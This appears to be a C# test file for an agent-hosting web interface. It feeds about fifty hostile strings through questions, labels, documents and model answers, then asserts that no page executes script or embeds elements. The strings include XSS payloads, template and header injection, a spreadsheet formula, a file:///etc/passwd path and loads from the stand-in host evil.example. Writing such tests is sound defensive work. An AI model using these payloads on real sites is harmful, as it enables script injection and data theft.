using System.Text;
using Agents.Host.Tests;

namespace Agents.Web.Tests;

/// <summary>Text of others is text: whatever a question, a label, a document or a model says, no page runs it, loads it or breaks by it.</summary>
public sealed class HostileTests(WebServer server)
{
    static readonly string[] Attacks =
    [
        "<script>window.struck=1</script>", "<img src=x onerror=window.struck=1>", "<svg onload=window.struck=1>",
        "<svg><script>window.struck=1</script></svg>", "\"><script src=//evil.example/x.js></script>",
        "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>", "<body onload=window.struck=1>",
        "<a href=\"javascript:window.struck=1\">click</a>", "[click](javascript:window.struck=1)", "![x](http://evil.example/pixel.gif)",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example/x)}</style>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
        "<form action=//evil.example><button>go</button></form>", "<object data=//evil.example></object>",
        "<math><mi xlink:href=javascript:window.struck=1>x</mi></math>", "{{constructor.constructor('window.struck=1')()}}", "${window.struck=1}",
        "`-window.struck-`", "'-alert(1)-'", "\";window.struck=1;//", "</textarea><script>window.struck=1</script>",
        "</pre><script>window.struck=1</script>", "<!--<script>-->", "]]>", "<details open ontoggle=window.struck=1>",
        "<input autofocus onfocus=window.struck=1>", "<video><source onerror=window.struck=1></video>", "&lt;script&gt;", "&#x3C;script&#x3E;",
        "\u202Egnirts\u202C", "\u2028\u2029", "Z\u0351\u036B\u0343\u0368\u036A", "😀👩‍👩‍👧‍👦", new('A', 3000), "a\tb\nc\r\nd", "__proto__",
        "constructor", "toString", "[1] [2] [999]", "data:text/html,<script>window.struck=1</script>", "#/runs?status=<script>", "%3Cscript%3E",
        "%00%0d%0aset-cookie:x=1", "=HYPERLINK(\"//evil.example\")", "file:///etc/passwd", "//evil.example", "\\u003cscript\\u003e", "<p is=x-y>",
    ];

    [Fact]
    public async Task A_hundred_hostile_texts_run_nothing_and_ask_no_other_host()
    {
        var texts = Attacks.Concat(Attacks.Select(attack => $"Is this safe? {attack} <b>bold</b>")).ToList();
        Assert.True(texts.Count >= 100, $"Only {texts.Count} texts.");
        var document = new StringBuilder("# Hostile <script>window.struck=1</script>\n\n");
        foreach (var text in Attacks)
            document.Append("## ").Append(text.ReplaceLineEndings(" ")).Append("\n\nThe hostile heron says: ").Append(text).Append("\n\n");
        await server.Read("<img src=x onerror=window.struck=1>.md", document.ToString());
        var runs = new List<Guid>();
        foreach (var (index, text) in texts.Index())
        {
            var question = $"{index} {text}";
            server.Model.Says(question, $"Answer {index}: {text} [1]");
            var label = new Dictionary<string, string> { [text.Length is > 0 and <= 64 ? text : "label"] = text[..Math.Min(text.Length, 500)] };
            runs.Add(await server.Ask(question, "talker", index % 4 == 0 ? label : null));
        }

        var shredded = $"Shred {Attacks[0]}";
        server.Model.Says(shredded, ("shred", new { document = Attacks[1] }), "done");
        runs.Add(await server.Ask(shredded, "clerk"));
        runs.Add(await server.Ask("What does the hostile heron say?", "research"));
        await server.Until(runs[^1], "completed");
        await server.Until(runs[0], "completed");
        await using var sheet = await Sheet.Open(server.Address);
        string[] addresses =
        [
            "#/runs", $"#/runs?q={Uri.EscapeDataString(Attacks[0])}&label={Uri.EscapeDataString(Attacks[1])}", "#/inbox", "#/knowledge",
            "#/knowledge?q=hostile%20heron", "#/costs", "#/audit?tab=changes", $"#/<script>/{Uri.EscapeDataString(Attacks[0])}",
            $"#/ask?run={runs[^1]}", $"#/runs/{runs[^2]}", $"#/runs/{runs[^1]}?v=11&pane=fact", $"#/runs/{runs[^1]}?v=9&pane=told",
            .. runs.Take(100).Where((_, index) => index % 5 == 0).SelectMany(run => new[] { $"#/runs/{run}?pane=state", $"#/ask?run={run}" }),
        ];
        foreach (var address in addresses)
        {
            await sheet.Go(address);
            await sheet.Page.Locator("main h1, main .trouble").First.WaitForAsync();
            await sheet.Page.WaitForTimeoutAsync(60);
            Assert.True(await sheet.Page.EvaluateAsync<bool>("window.struck === undefined"), $"{address} ran it.");
            Assert.Equal(0, await sheet.Page.Locator("main script, main img, main iframe, main object, main style").CountAsync());
        }

        // What the server refuses, such as a label that no run can have, is told as a sentence, and by the browser's console as a status.
        Assert.DoesNotContain(
            sheet.Complaints, said => !said.StartsWith("Failed to load resource: the server responded with a status of 4", StringComparison.Ordinal));
    }
}
